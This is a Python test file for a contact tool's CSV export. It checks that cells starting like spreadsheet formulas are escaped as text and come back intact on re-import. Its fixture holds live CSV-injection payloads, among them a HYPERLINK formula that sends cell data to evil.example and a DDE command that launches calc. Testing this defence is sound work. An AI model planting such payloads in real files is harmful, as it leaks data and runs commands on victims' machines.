"""CSV export is safe to open in a spreadsheet (OWASP CSV injection): a cell that would run as
a formula is written as text, and netdesk's own re-import gets the text back exactly."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from netdesk.domain.contact_data import ContactData, EmailAddress, PhoneNumber, WebAddress
from netdesk.interop.csv_reader import read_csv
from netdesk.interop.csv_writer import FORMULA_STARTS, defuse, restore_defused, write_csv

HOSTILE = ContactData(
    full_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
    organization="+cmd|' /C calc'!A0",
    title="-2+3",
    note="@SUM(1+1)",
    department="\t=1+1",
    role="\r=2",
    nickname="'=already quoted",
    prefix="'plain apostrophe",
    emails=[EmailAddress("ana@example.org", "@work")],
    phones=[PhoneNumber("+34 600 111 222", "cell"), PhoneNumber("-600 111 223", "=work")],
    urls=[WebAddress("https://example.org", "=x")],
    tags=["=tag", "-other"],
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_exported_cell_starts_like_a_formula() -> None:
    rows = cells(write_csv([HOSTILE]))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    assert "'=HYPERLINK" in rows[1][0]


def test_netdesk_reimport_keeps_the_text_exactly() -> None:
    [row] = list(read_csv(write_csv([HOSTILE]).encode("utf-8")))
    back = row.contact
    assert back is not None
    for attribute in (
        "full_name",
        "organization",
        "title",
        "note",
        "department",
        "role",
        "nickname",
        "prefix",
    ):
        assert getattr(back, attribute) == getattr(HOSTILE, attribute), attribute
    assert [(e.value, e.kind) for e in back.emails] == [("ana@example.org", "@work")]
    assert [(p.value, p.kind) for p in back.phones] == [
        ("+34 600 111 222", "cell"),
        ("-600 111 223", "=work"),
    ]
    assert back.tags == ["=tag", "-other"]


@given(st.text(max_size=30))
def test_defuse_is_undone_exactly_and_always_safe(text: str) -> None:
    safe = defuse(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore_defused(safe) == text


def test_a_phone_without_digits_or_written_as_a_formula_is_left_out_with_a_warning() -> None:
    raw = "First Name,Last Name,Phone 1 - Value\r\nAna,Ruiz,=1\r\nBea,Sanz,call me\r\n"
    rows = list(read_csv(raw.encode("utf-8")))
    assert [r.contact.phones for r in rows if r.contact] == [[], []]
    assert any("not a phone number" in w for r in rows for w in r.warnings)
